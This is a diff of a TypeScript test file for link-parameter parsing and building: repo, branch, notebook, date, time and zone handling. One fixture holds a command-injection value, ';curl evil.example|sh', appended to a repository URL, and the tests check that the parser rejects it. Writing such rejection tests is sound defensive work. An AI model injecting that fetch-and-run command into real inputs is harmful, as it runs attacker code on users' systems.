@@ -86,10 +86,44 @@ describe('parseLinkParams', () => {
 	});
 
 	test('names each refused parameter and keeps the valid ones', () => {
-		const params = new URLSearchParams({ platform: 'cocalc', repo: 'https://github.com/a/b;curl evil.example|sh', branch: 'dev' });
+		const params = new URLSearchParams({ platform: 'cocalc', repo: 'https://github.com/a/b;curl evil.example|sh', folder: 'dl' });
 		const { details, notices } = parseLinkParams(params, SETUP_KEYS);
-		expect(details).toEqual({ platform: 'cocalc', branch: 'dev' });
+		expect(details).toEqual({ platform: 'cocalc', folder: 'dl' });
 		expect(notices).toEqual([{ param: 'repo', value: 'https://github.com/a/b;curl evil.exampl…', reason: 'rejected' }]);
+	});
+
+	test('does not use the branch and notebook of a refused repository on the default one', () => {
+		const params = new URLSearchParams({ repo: 'https://evil.example/a/b', branch: 'dev', notebook: 'x.ipynb', folder: 'dl' });
+		const { details, notices } = parseLinkParams(params, SETUP_KEYS);
+		expect(details).toEqual({ folder: 'dl' });
+		expect(notices).toEqual([
+			{ param: 'repo', value: 'https://evil.example/a/b', reason: 'rejected' },
+			{ param: 'branch', value: 'dev', reason: 'without-repo' },
+			{ param: 'notebook', value: 'x.ipynb', reason: 'without-repo' },
+		]);
+		// Without a repo in the link, the branch is the default repository's.
+		expect(parseLinkParams(new URLSearchParams({ branch: 'dev' })).details).toEqual({ branch: 'dev' });
+	});
+
+	test.each([
+		{ query: 'time=09:30', dropped: ['time'], reason: 'without-date' },
+		{ query: 'date=2026-02-30&time=09:30&tz=Europe/Berlin', dropped: ['time', 'tz'], reason: 'without-date' },
+		{ query: 'date=2026-12-03&tz=Europe/Berlin', dropped: ['tz'], reason: 'without-time' },
+		{ query: 'date=2026-12-03&time=25:00&tz=Asia/Shanghai', dropped: ['tz'], reason: 'without-time' },
+	])('says when $query has a time or zone with nothing to attach it to', ({ query, dropped, reason }) => {
+		const { details, notices } = parseLinkParams(new URLSearchParams(query));
+		expect(details.time === undefined && details.tz === undefined).toBe(true);
+		const unusable = notices.filter((n) => n.reason.startsWith('without-'));
+		expect(unusable.map((n) => n.param)).toEqual(dropped);
+		expect(unusable[0]?.reason).toBe(reason);
+	});
+
+	test('leaves a time with no date out of a built link, and a zone with no time', () => {
+		expect(buildPrepLink('/prep/', { title: 'T', time: '09:30', tz: 'Europe/Berlin' })).toBe('/prep/?title=T');
+		expect(buildPrepLink('/prep/', { date: '2026-12-03', tz: 'Europe/Berlin' })).toBe('/prep/?date=2026-12-03');
+		expect(buildPrepLink('/prep/', { date: '2026-12-03', time: '09:30', tz: 'Europe/Berlin' })).toBe(
+			'/prep/?date=2026-12-03&time=09%3A30&tz=Europe%2FBerlin',
+		);
 	});
 
 	test('shows refused values without invisible characters, cut short', () => {
@@ -212,7 +246,10 @@ describe('buildPrepLink', () => {
 				const link = buildPrepLink('/prep/', d);
 				const query = link.includes('?') ? link.slice(link.indexOf('?') + 1) : '';
 				const { platform, ...rest } = d;
-				const expected = platform === 'colab' ? rest : d;
+				const expected: LinkDetails = platform === 'colab' ? rest : { ...d };
+				// A start time needs a date, and a zone a start time: alone they are not written.
+				if (!expected.date) delete expected.time;
+				if (!expected.time) delete expected.tz;
 				expect(parseLinkParams(new URLSearchParams(query))).toEqual({ details: expected, notices: [] });
 			}),
 			{ numRuns: 300 },
